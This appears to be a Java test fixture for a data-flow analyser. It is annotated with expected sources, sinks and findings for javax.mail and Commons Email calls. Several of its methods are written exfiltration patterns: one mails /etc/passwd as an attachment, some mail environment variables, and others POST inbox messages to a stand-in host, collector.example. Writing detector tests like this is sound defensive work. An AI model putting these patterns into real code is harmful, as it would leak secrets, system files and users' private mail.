// javax.mail and jakarta.mail, Commons Email: building, sending and reading mail.
package app;

import java.util.List;
import javax.activation.*;
import javax.mail.*;
import javax.mail.internet.*;
import org.apache.commons.mail.SimpleEmail;
import org.springframework.web.client.RestTemplate;

class Mail {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void sent(Session session) {
        MimeMessage message = new MimeMessage(session);
        message.setText(System.getenv("T")); //~ source(ENVIRONMENT) f1
        Transport.send(message); //~ sink(egress.mail) f1, finding(traced) f1, capability(MAIL)
    }

    void attached(Session session) {
        MimeBodyPart part = new MimeBodyPart();
        part.attachFile("/etc/passwd"); //~ source(FILE) f2, capability(FILES)
        MimeMultipart parts = new MimeMultipart();
        parts.addBodyPart(part);
        MimeMessage message = new MimeMessage(session);
        message.setContent(parts);
        Transport.send(message); //~ sink(egress.mail) f2, finding(traced) f2
    }

    void handled(Session session) {
        MimeMessage message = new MimeMessage(session);
        message.setDataHandler(new DataHandler(new FileDataSource("/etc/passwd"))); //~ source(FILE) f3, capability(FILES)
        Transport.send(message); //~ sink(egress.mail) f3, finding(traced) f3
    }

    void transported(Session session, MimeMessage message) {
        message.setSubject(System.getenv("T")); //~ source(ENVIRONMENT) f4
        Transport transport = session.getTransport("smtp");
        transport.sendMessage(message, null); //~ sink(egress.mail) f4, finding(traced) f4
    }

    void connected(Session session) {
        session.getTransport("smtp").connect("smtp.collector.example", "u", "p"); //~ capability(MAIL), endpoint("smtp.collector.example")
    }

    void constants(Session session) {
        MimeMessage message = new MimeMessage(session);
        message.setText("x"); //~ ok
        message.setFrom(System.getenv("T")); //~ ok
        message.setDataHandler(new DataHandler("x")); //~ ok
        new MimeMultipart().addBodyPart(new MimeBodyPart()); //~ ok
        new MimeBodyPart().attachFile("/etc/passwd"); //~ ok
        new FileDataSource("/etc/passwd"); //~ ok
        Transport.send(message); //~ ok
        session.getTransport("smtp").sendMessage(message, null); //~ ok
        session.getTransport("smtp").connect("smtp.collector.example", "u", "p"); //~ ok
    }

    void read(Session session) {
        Message message = session.getStore("imap").getFolder("INBOX").getMessage(1); //~ source(PERSONAL) f5, capability(MAIL)
        rest.postForObject(U, message.getContent(), String.class); //~ sink(egress.http) f5, finding(traced) f5
    }

    void readStream(Folder folder) {
        rest.postForObject(U, folder.getMessage(1).getInputStream().readAllBytes(), String.class); //~ source(PERSONAL) f6, sink(egress.http) f6, finding(traced) f6
    }

    void readNothing(Session session, Message message) {
        rest.postForObject(U, session.getStore("imap").getFolder("INBOX").getMessage(1) == null, String.class); //~ ok
        rest.postForObject(U, message.getContent(), String.class); //~ ok
        rest.postForObject(U, message.getInputStream().readAllBytes(), String.class); //~ ok
    }

    void simple() {
        SimpleEmail email = new SimpleEmail();
        email.setHostName("smtp2.collector.example"); //~ endpoint("smtp2.collector.example")
        email.setMsg(System.getenv("T")); //~ source(ENVIRONMENT) f7
        email.send(); //~ sink(egress.mail) f7, finding(traced) f7, capability(MAIL)
    }

    void simpleConstants() {
        SimpleEmail email = new SimpleEmail();
        email.setHostName("smtp2.collector.example"); //~ ok
        email.setMsg("x"); //~ ok
        email.send(); //~ ok
    }
}
